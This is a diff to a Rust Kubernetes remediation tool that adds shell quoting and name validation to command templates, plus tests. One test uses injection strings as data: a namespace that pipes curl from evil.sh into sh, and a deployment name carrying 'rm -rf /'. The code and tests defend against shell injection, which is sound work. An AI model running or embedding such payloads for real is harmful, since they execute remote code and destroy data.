@@ -80,16 +80,84 @@ pub fn per_minute(cfg: &Config, a: &Analysis) -> Vec<MinuteBucket> {
         .collect()
 }
 
-fn fill(command: &str, target: &Target, pod: &str) -> String {
-    command
-        .replace("{namespace}", &target.namespace)
-        .replace("{deployment}", &target.deployment)
-        .replace("{container}", &target.container)
-        .replace("{pod}", pod)
+/// A command template filled in for the target and pod. Every value comes from the input, so
+/// each is quoted for the shell when it holds anything but a name's characters, and a command
+/// with a value that is not a Kubernetes name says so above it: check before running it.
+fn fill(command: &str, target: &Target, pod: Option<&str>) -> String {
+    let values = [
+        ("namespace", target.namespace.as_str()),
+        ("deployment", target.deployment.as_str()),
+        ("container", target.container.as_str()),
+        ("pod", pod.unwrap_or("")),
+    ];
+    let mut out = command.to_owned();
+    let mut odd = Vec::new();
+    for (name, value) in values {
+        let slot = format!("{{{name}}}");
+        if !out.contains(&slot) {
+            continue;
+        }
+        if name == "pod" && pod.is_none() {
+            // No record named its pod: leave a placeholder to fill in.
+            out = out.replace(&slot, "POD");
+            odd.push("POD: the records name no pod, put one in".to_owned());
+            continue;
+        }
+        if !is_kubernetes_name(value) {
+            odd.push(format!(
+                "{name} {} is not a Kubernetes name",
+                shell_quote(value)
+            ));
+        }
+        out = out.replace(&slot, &shell_quote(value));
+    }
+    if odd.is_empty() {
+        out
+    } else {
+        format!(
+            "# check before running: {} (taken from the input)\n{out}",
+            odd.join("; ")
+        )
+    }
+}
+
+/// `value` as one shell word: as is when it holds only characters no shell treats specially,
+/// else in single quotes (a quote inside written `'\''`), control characters shown as `?`.
+pub fn shell_quote(value: &str) -> String {
+    let plain = !value.is_empty()
+        && value
+            .bytes()
+            .all(|b| b.is_ascii_alphanumeric() || b"-._/:=@%+,".contains(&b));
+    if plain {
+        value.to_owned()
+    } else {
+        let one_line: String = value
+            .chars()
+            .map(|c| if c.is_control() { '?' } else { c })
+            .collect();
+        format!("'{}'", one_line.replace('\'', r"'\''"))
+    }
+}
+
+/// A DNS-1123 subdomain, which namespaces, Deployments, pods and containers' names all are
+/// (namespaces and containers are the stricter label: no dots, 63 characters).
+fn is_kubernetes_name(s: &str) -> bool {
+    let b = s.as_bytes();
+    !b.is_empty()
+        && b.len() <= 253
+        && b.iter()
+            .all(|c| c.is_ascii_lowercase() || c.is_ascii_digit() || *c == b'-' || *c == b'.')
+        && b[0].is_ascii_alphanumeric()
+        && b[b.len() - 1].is_ascii_alphanumeric()
 }
 
 /// A cause's entry, its commands filled in for the target and `pod`.
-fn cause_remediation(cause: &Cause, because: String, target: &Target, pod: &str) -> Remediation {
+fn cause_remediation(
+    cause: &Cause,
+    because: String,
+    target: &Target,
+    pod: Option<&str>,
+) -> Remediation {
     Remediation {
         cause: cause.id.clone(),
         title: cause.title.clone(),
@@ -207,10 +275,7 @@ pub fn remediation(cfg: &Config, a: &Analysis, docs: &[CauseSummary]) -> Vec<Rem
             if id == UNCLASSIFIED_ID {
                 return Some(unclassified(because));
             }
-            let pod = match (&r.logs, r.pod.is_empty()) {
-                (Some(_), true) => UNKNOWN_POD,
-                _ => r.pod.as_str(),
-            };
+            let pod = (!r.pod.is_empty()).then_some(r.pod.as_str());
             Some(cause_remediation(
                 cfg.causes.get(r.cause)?,
                 because,
@@ -219,4 +284,71 @@ pub fn remediation(cfg: &Config, a: &Analysis, docs: &[CauseSummary]) -> Vec<Rem
             ))
         })
         .collect()
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+    use crate::correlate::target::{DeploymentFrom, NamespaceFrom};
+
+    fn target(namespace: &str, deployment: &str) -> Target {
+        Target {
+            namespace: namespace.into(),
+            namespace_from: NamespaceFrom::Flag,
+            deployment: deployment.into(),
+            deployment_from: DeploymentFrom::Flag,
+            container: "backend".into(),
+        }
+    }
+
+    #[test]
+    fn kubernetes_names_go_in_as_they_are() {
+        let t = target("mcp-everything", "mcp-backend");
+        assert_eq!(
+            fill(
+                "kubectl logs -n {namespace} {pod} -c {container}",
+                &t,
+                Some("mcp-backend-7c9d5b8f6d-x2kqp")
+            ),
+            "kubectl logs -n mcp-everything mcp-backend-7c9d5b8f6d-x2kqp -c backend"
+        );
+    }
+
+    #[test]
+    fn values_from_hostile_input_are_quoted_and_flagged() {
+        let t = target("prod$(curl evil.sh|sh)", "x'; rm -rf /; '");
+        let c = fill(
+            "kubectl rollout restart deployment/{deployment} -n {namespace}",
+            &t,
+            None,
+        );
+        let (warning, command) = c.split_once('\n').unwrap();
+        assert!(warning.starts_with("# check before running:"), "{c}");
+        assert_eq!(
+            command,
+            r#"kubectl rollout restart deployment/'x'\''; rm -rf /; '\''' -n 'prod$(curl evil.sh|sh)'"#
+        );
+        // What a shell makes of it: each value one word, nothing run.
+        let args = command.trim_start_matches("kubectl rollout restart ");
+        let out = std::process::Command::new("sh")
+            .arg("-c")
+            .arg(format!("printf '%s\\n' {args}"))
+            .output()
+            .unwrap();
+        assert_eq!(
+            String::from_utf8_lossy(&out.stdout),
+            "deployment/x'; rm -rf /; '\n-n\nprod$(curl evil.sh|sh)\n"
+        );
+    }
+
+    #[test]
+    fn a_command_without_a_pod_says_to_fill_it_in() {
+        let t = target("mcp-everything", "mcp-backend");
+        let c = fill("kubectl describe pod -n {namespace} {pod}", &t, None);
+        assert!(
+            c.ends_with("\nkubectl describe pod -n mcp-everything POD"),
+            "{c}"
+        );
+        assert!(c.starts_with("# check before running: POD"), "{c}");
+    }
 }
